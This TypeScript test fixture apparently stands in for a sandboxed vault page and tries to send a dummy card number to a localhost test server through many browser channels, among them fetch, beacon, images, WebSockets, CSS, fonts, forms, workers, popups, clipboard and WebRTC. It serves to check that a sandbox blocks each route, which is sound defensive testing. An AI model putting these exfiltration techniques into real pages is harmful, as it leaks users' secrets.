import {css, html, LitElement} from 'lit';

// Stands in the vault's place and is the attacker's: tries every way out that is known, and says which seemed to work.
const query = new URLSearchParams(location.search);
const to = `http://127.0.0.1:${query.get('port')}`;
const secret = '4111111111111111';
const url = (route: string) => `${to}/${route}?${secret}`;

/** Adds an element that would load something. */
function put<K extends keyof HTMLElementTagNameMap>(tag: K, set: Partial<HTMLElementTagNameMap[K]>): void {
  document.body.append(Object.assign(document.createElement(tag), set));
}

const ROUTES: Record<string, () => unknown> = {
  fetch: () => fetch(url('fetch'), {mode: 'no-cors'}),
  beacon: () => navigator.sendBeacon(url('beacon'), secret),
  image: () => put('img', {src: url('image')}),
  websocket: () => new WebSocket(url('websocket').replace('http', 'ws')),
  style: () => {
    const box = document.body.appendChild(document.createElement('div'));
    box.style.setProperty('background-image', `url("${url('style')}")`);
    box.textContent = 'x';
  },
  font: () => new FontFace('leak', `url("${url('font')}")`).load(),
  prefetch: () => put('link', {rel: 'prefetch', href: url('prefetch')}),
  form: () => {
    const name = 'form-target';
    put('iframe', {name});
    const form = Object.assign(document.createElement('form'), {action: url('form'), method: 'post', target: name});
    document.body.append(form);
    form.submit();
  },
  import: () => import(/* @vite-ignore */ url('import')),
  frame: () => put('iframe', {src: url('frame')}),
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${url('worker')}")`]))),
  popup: () => {
    const popup = window.open(url('popup'));
    if (popup === null) return;
    window.parent.postMessage({leaked: 'popup'}, '*');
    setTimeout(() => popup.close(), 500); // it would keep the keyboard from the tests that follow
  },
  clipboard: async () => {
    await navigator.clipboard.writeText(secret);
    window.parent.postMessage({leaked: 'clipboard'}, '*');
  },
  webrtc: async () => {
    const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${query.get('udp')}`}]});
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
};

async function attempt(route: string): Promise<void> {
  try {
    await ROUTES[route]!();
  } catch {
    // closed
  }
}

/** Lit, with a style sheet of its own, as the form is made. */
class Sample extends LitElement {
  static override styles = css`
    p {
      color: rgb(1, 2, 3);
    }
  `;
  protected override render() {
    return html`<p>${'rendered'}</p>`;
  }
}

async function run(): Promise<void> {
  if (query.has('navigate')) {
    location.href = url('navigation');
    return;
  }
  customElements.define('test-sample', Sample);
  const sample = new Sample();
  document.body.append(sample);
  await sample.updateComplete;
  const paragraph = sample.shadowRoot!.querySelector('p')!;
  await Promise.all(Object.keys(ROUTES).map(attempt));
  const isRendered = paragraph.textContent === 'rendered' && getComputedStyle(paragraph).color === 'rgb(1, 2, 3)';
  window.parent.postMessage({tried: Object.keys(ROUTES), isRendered}, '*');
}

void run();
